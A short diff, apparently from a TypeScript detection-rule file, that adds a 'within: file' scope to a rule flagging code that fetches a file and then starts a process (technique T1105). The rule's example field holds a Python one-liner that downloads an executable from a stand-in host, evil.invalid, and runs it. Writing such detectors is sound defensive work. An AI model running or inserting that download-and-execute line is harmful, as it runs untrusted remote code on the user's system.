@@ -22,6 +22,7 @@ export const fetchedFileAndStart: PairCombination = {
     example: 'open("a.exe", "wb").write(urlopen("https://evil.invalid/a").read()); os.system("a.exe")',
     technique: 'T1105',
   },
+  within: 'file',
   first: fetches,
   second: (sighting) =>
     sighting.behaviour === 'starts-process' &&
